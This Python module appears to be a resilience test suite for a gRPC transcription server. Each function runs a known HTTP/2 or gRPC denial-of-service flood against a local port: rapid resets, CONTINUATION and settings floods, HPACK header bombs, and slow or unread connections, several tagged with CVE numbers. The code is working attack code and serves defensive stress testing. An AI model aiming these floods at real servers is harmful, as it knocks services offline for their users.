"""The known attacks on HTTP/2 and gRPC, each as a function that repeats it until `over()`.

Each returns how many inputs it has sent: frames, messages, calls or connections, whichever it floods with.
"""

from __future__ import annotations

import random
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress

from hyperframe import frame as frames

from tests.speech import tone
from tests.wire.http2 import PREFACE, WINDOW_BYTES, Peer, headers_of, message, raw, settings
from tests.wire.node import HOSTILE
from typeless_grpc.pb.v1 import audio_pb2, transcription_pb2
from typeless_grpc.pb.v1.transcription_pb2 import StreamTranscribeRequest

CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
TRANSCRIBE = "/typeless.v1.TranscriptionService/Transcribe"
STREAM = "/typeless.v1.TranscriptionService/StreamTranscribe"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
CANCEL = struct.pack(">I", 8)
BATCH = 500
RAW = audio_pb2.AudioFormat(encoding=audio_pb2.AUDIO_ENCODING_PCM_S16LE, sample_rate_hertz=16_000)

Over = Callable[[], bool]
Attack = Callable[[int, Over], int]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    """Add a function to those that are tried."""
    ATTACKS[function.__name__] = function
    return function


def configuration() -> bytes:
    config = transcription_pb2.StreamConfig(format=RAW)
    return message(StreamTranscribeRequest(config=config).SerializeToString())


def recording(seconds: float = 0.2) -> bytes:
    source = audio_pb2.AudioSource(content=tone(seconds), format=RAW)
    return message(transcription_pb2.TranscribeRequest(audio=source).SerializeToString())


def reconnecting(port: int, over: Over, flood: Callable[[Peer], int], **options: int) -> int:
    """Flood one connection after the other: each until the server closes it."""
    n_inputs = 0
    while not over():
        with Peer(port, **options) as peer:
            while not over() and not peer.is_closed and peer.next_stream < 2**30:
                n_inputs += flood(peer)
    return n_inputs


def drained(peer: Peer) -> None:
    """Read what is there, without waiting."""
    peer.read(lambda: False, 0.001)


# ---- resets ---------------------------------------------------------------------------------------------------------


def resets(peer: Peer, headers: list[tuple[str, str]], *between: bytes) -> int:
    """Open and reset calls in one write."""
    sent = []
    for _ in range(BATCH):
        stream, opened = peer.opening(headers)
        sent.append(opened)
        sent += [raw(DATA, 0, stream, data) for data in between]
        sent.append(raw(RST_STREAM, 0, stream, CANCEL))
    peer.send(*sent)
    drained(peer)
    return BATCH


@attack
def rapid_resets(port: int, over: Over) -> int:
    """Calls without a key, reset at once (CVE-2023-44487)."""
    return reconnecting(port, over, lambda peer: resets(peer, headers_of(TRANSCRIBE)))


@attack
def rapid_resets_on_many_connections(port: int, over: Over) -> int:
    """The same on twelve connections, so that more calls wait than gRPC accepts by default."""
    with many(port, 12) as peers:
        n_inputs = 0
        while not over():
            n_inputs += sum(resets(peer, headers_of(TRANSCRIBE)) for peer in peers)
        return n_inputs


@attack
def rapid_resets_with_a_key(port: int, over: Over) -> int:
    """The same with a key and a whole request, so that work has begun."""
    return reconnecting(port, over, lambda peer: resets(peer, headers_of(TRANSCRIBE, key=HOSTILE), recording()))


@attack
def rapid_resets_of_streams(port: int, over: Over) -> int:
    """Streams that are reset when they have a session."""
    return reconnecting(port, over, lambda peer: resets(peer, headers_of(STREAM, key=HOSTILE), configuration()))


@attack
def rapid_resets_that_nobody_reads(port: int, over: Over) -> int:
    """The same without reading what the server answers."""

    def flood(peer: Peer) -> int:
        sent = []
        for _ in range(BATCH):
            stream, opened = peer.opening(headers_of(CHECK))
            sent += [opened, raw(RST_STREAM, 0, stream, CANCEL)]
        peer.socket.settimeout(0.2)
        peer.send(*sent)
        return BATCH

    return reconnecting(port, over, flood, receive_bytes=4096)


@attack
def resets_by_wrong_frames(port: int, over: Over) -> int:
    """Calls whose window the client breaks, so that the server resets them itself (CVE-2025-8671)."""

    def flood(peer: Peer) -> int:
        sent = []
        for _ in range(BATCH):
            stream, opened = peer.opening(headers_of(CHECK))
            sent += [opened, raw(WINDOW_UPDATE, 0, stream, struct.pack(">I", WINDOW_BYTES))]
        peer.send(*sent)
        drained(peer)
        return BATCH

    return reconnecting(port, over, flood)


# ---- floods of frames -----------------------------------------------------------------------------------------------


def frame_flood(data: bytes, *, reads: bool = True, n_frames: int = BATCH) -> Callable[[Peer], int]:
    block = data * n_frames

    def flood(peer: Peer) -> int:
        if not reads:
            peer.socket.settimeout(0.2)
        peer.send(block)
        if reads:
            drained(peer)
        return n_frames

    return flood


@attack
def continuations(port: int, over: Over) -> int:
    """Headers that never end (CVE-2024-27316)."""

    def flood(peer: Peer) -> int:
        stream, opened = peer.opening(headers_of(CHECK), flags=())
        header = b"\0\x06x-note\x0a0123456789"
        peer.send(opened, *(raw(CONTINUATION, 0, stream, header * 50) for _ in range(BATCH)))
        drained(peer)
        return BATCH

    return reconnecting(port, over, flood)


@attack
def empty_continuations(port: int, over: Over) -> int:
    """Headers that never end, in empty frames."""

    def flood(peer: Peer) -> int:
        if peer.next_stream == 1:
            peer.send(peer.opening(headers_of(CHECK), flags=())[1])
        peer.send(raw(CONTINUATION, 0, 1) * (4 * BATCH))
        drained(peer)
        return 4 * BATCH

    return reconnecting(port, over, flood)


@attack
def settings_floods(port: int, over: Over) -> int:
    """Settings that must all be acknowledged (CVE-2019-9515)."""
    return reconnecting(port, over, frame_flood(settings(INITIAL_WINDOW_SIZE=1000)))


@attack
def settings_that_nobody_reads(port: int, over: Over) -> int:
    """The same, and the acknowledgements are not read."""
    return reconnecting(port, over, frame_flood(settings(), reads=False), receive_bytes=4096)


@attack
def pings_that_nobody_reads(port: int, over: Over) -> int:
    """Pings whose answers are not read (CVE-2019-9512)."""
    return reconnecting(port, over, frame_flood(raw(PING, 0, 0, b"12345678"), reads=False), receive_bytes=4096)


@attack
def priorities(port: int, over: Over) -> int:
    """Changes of priority (CVE-2019-9513)."""
    return reconnecting(port, over, frame_flood(raw(PRIORITY, 0, 1, bytes(5))))


@attack
def window_updates(port: int, over: Over) -> int:
    """A window that opens by a byte at a time."""
    return reconnecting(port, over, frame_flood(raw(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))))


@attack
def unknown_frames(port: int, over: Over) -> int:
    """Frames of types that nobody knows, which must be ignored."""
    return reconnecting(port, over, frame_flood(raw(0xBE, 0, 0, bytes(10))))


@attack
def empty_data_frames(port: int, over: Over) -> int:
    """DATA without data in an open call (CVE-2019-9518)."""

    def flood(peer: Peer) -> int:
        if peer.next_stream == 1:
            peer.call(headers_of(STREAM, key=HOSTILE), configuration(), end=False)
        peer.send(raw(DATA, 0, 1) * BATCH)
        drained(peer)
        return BATCH

    return reconnecting(port, over, flood)


# ---- headers --------------------------------------------------------------------------------------------------------


@attack
def header_bombs(port: int, over: Over) -> int:
    """A header of four kilobytes in the compression table, named a thousand times by a byte each."""

    def flood(peer: Peer) -> int:
        stream, opened = peer.opening(headers_of(CHECK), flags=())
        big = b"\x40\x01b" + b"\x7f" + _integer(3900 - 127) + b"x" * 3900
        peer.send(opened, raw(CONTINUATION, 0, stream, big), raw(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16_000))
        drained(peer)
        return 1

    return reconnecting(port, over, flood)


@attack
def table_resizes(port: int, over: Over) -> int:
    """Headers that change the size of the compression table again and again."""

    def flood(peer: Peer) -> int:
        stream = peer.next_stream
        peer.next_stream += 2
        peer.send(*(raw(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, b"\x20\x3f\xe1\x1f") for i in range(50)))
        peer.next_stream += 100
        drained(peer)
        return 50

    return reconnecting(port, over, flood)


def _integer(value: int) -> bytes:
    """The rest of an integer of HPACK, after its prefix."""
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


# ---- messages -------------------------------------------------------------------------------------------------------


def message_flood(port: int, over: Over, *messages: StreamTranscribeRequest, first: bytes = b"") -> int:
    """A stream with the same messages over and over."""
    encoded = b"".join(message(one.SerializeToString()) for one in messages)
    n_times = max(1, 16_000 // len(encoded))
    n_inputs = 0

    while not over():
        with Peer(port) as peer:
            stream = peer.call(headers_of(STREAM, key=HOSTILE), first or configuration(), end=False)
            answer = peer.answer(stream, 0.05)
            while not over() and not peer.is_closed and not answer.has_ended:
                if flow_left(peer, stream) > len(encoded) * n_times:
                    peer.send(raw(DATA, 0, stream, encoded * n_times))
                    peer.used[stream] = peer.used.get(stream, 0) + len(encoded) * n_times
                    n_inputs += n_times * len(messages)
                answer = peer.answer(stream, 0.002)
    return n_inputs


def flow_left(peer: Peer, stream: int) -> int:
    """How many bytes of data the server still takes, on the connection and in a stream."""
    return min(
        peer.window(0) - sum(peer.used.values()),
        peer.window(stream) - peer.used.get(stream, 0),
    )


@attack
def empty_messages(port: int, over: Over) -> int:
    """Messages without content, on a stream that is open."""
    return message_flood(port, over, StreamTranscribeRequest())


@attack
def empty_audio(port: int, over: Over) -> int:
    """Legal messages with no bytes of audio."""
    return message_flood(port, over, StreamTranscribeRequest(audio=b""))


@attack
def keep_alives(port: int, over: Over) -> int:
    """Legal messages that ask for nothing."""
    return message_flood(port, over, StreamTranscribeRequest(control=transcription_pb2.STREAM_CONTROL_KEEP_ALIVE))


@attack
def updates(port: int, over: Over) -> int:
    """Legal messages that are each answered."""
    options = transcription_pb2.TranscriptionOptions(language="en")
    return message_flood(port, over, StreamTranscribeRequest(update=options))


@attack
def finalizes(port: int, over: Over) -> int:
    """A little audio, ended at once."""
    audio = StreamTranscribeRequest(audio=tone(0.02))
    return message_flood(port, over, audio, StreamTranscribeRequest(control=transcription_pb2.STREAM_CONTROL_FINALIZE))


# ---- calls and connections ------------------------------------------------------------------------------------------


@attack
def abandoned_calls(port: int, over: Over) -> int:
    """Calls of every kind, and then the connection is cut."""
    kinds = [
        (headers_of(CHECK), ()),
        (headers_of(WATCH), (message(),)),
        (headers_of(TRANSCRIBE), (recording(),)),
        (headers_of(TRANSCRIBE, key=HOSTILE), (recording(),)),
        (headers_of(TRANSCRIBE, key=HOSTILE), (recording()[:50],)),
        (headers_of(STREAM, key=HOSTILE), (configuration(),)),
        (headers_of(STREAM, key=HOSTILE), ()),
    ]
    n_inputs = 0
    while not over():
        peer = Peer(port)
        for _ in range(40):
            for headers, messages in kinds:
                peer.call(headers, *messages, end=False)
                n_inputs += 1
        drained(peer)
        peer.close(abruptly=True)
    return n_inputs


@contextmanager
def many(port: int, n: int, **options: int) -> Iterator[list[Peer]]:
    with ExitStack() as stack:
        yield [stack.enter_context(Peer(port, **options)) for _ in range(n)]


@attack
def open_calls(port: int, over: Over) -> int:
    """Thousands of calls that stay open."""
    with many(port, 4) as peers:
        n_inputs = 0
        while not over():
            for peer in peers:
                if peer.next_stream < 2000:
                    for method in (CHECK, WATCH, TRANSCRIBE, STREAM):
                        peer.call(headers_of(method, key=HOSTILE), end=False)
                        n_inputs += 1
                drained(peer)
        return n_inputs


@attack
def deaf_readers(port: int, over: Over) -> int:
    """Whole calls on connections whose windows never open, so that no answer can be sent."""
    with many(port, 4, begin=PREFACE + settings(INITIAL_WINDOW_SIZE=0)) as peers:
        n_inputs = 0
        while not over():
            for peer in peers:
                if peer.next_stream < 1000:
                    peer.call(headers_of(CHECK), message())
                    peer.call(headers_of(TRANSCRIBE, key=HOSTILE), recording())
                    n_inputs += 2
                drained(peer)
        return n_inputs


@attack
def deaf_connections(port: int, over: Over) -> int:
    """Calls on connections that are never read."""

    def flood(peer: Peer) -> int:
        peer.socket.settimeout(0.2)
        opened = [peer.opening(headers_of("/no/" + "x" * 200)) for _ in range(BATCH)]
        peer.send(*(block + raw(DATA, END_STREAM, stream) for stream, block in opened))
        return BATCH

    return reconnecting(port, over, flood, receive_bytes=4096)


@attack
def slow_senders(port: int, over: Over) -> int:
    """Connections and calls that come a byte at a time."""
    with many(port, 20, begin=b"") as peers:
        scripts = []
        for index, peer in enumerate(peers):
            stream, opened = peer.opening(headers_of(STREAM if index % 2 else TRANSCRIBE, key=HOSTILE))
            sent = configuration() if index % 2 else recording()
            scripts.append(iter(PREFACE + settings() + opened + frames.DataFrame(stream, sent).serialize()))
        n_inputs = 0
        while not over():
            for peer, script in zip(peers, scripts, strict=True):
                peer.send(bytes([next(script, 0)]))
                n_inputs += 1
            time.sleep(0.005)
        return n_inputs


@attack
def connections(port: int, over: Over) -> int:
    """Connections that come and go, some with a byte, some with a preface."""
    n_inputs = 0
    chance = random.Random(1)
    while not over():
        peer = Peer(port, begin=chance.choice([b"", b"P", PREFACE, PREFACE + settings(), b"GET / HTTP/1.1\r\n\r\n"]))
        peer.close(abruptly=chance.random() < 0.5)
        n_inputs += 1
    return n_inputs


@attack
def other_protocols(port: int, over: Over) -> int:
    """Clients of HTTP/1.1 and TLS."""
    n_inputs = 0
    while not over():
        with Peer(port, begin=b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello") as peer:
            drained(peer)
        client, server = ssl.MemoryBIO(), ssl.MemoryBIO()
        context = ssl.create_default_context()
        with suppress(ssl.SSLWantReadError):
            context.wrap_bio(server, client, server_hostname="x").do_handshake()
        with Peer(port, begin=client.read()) as peer:
            drained(peer)
        n_inputs += 2
    return n_inputs
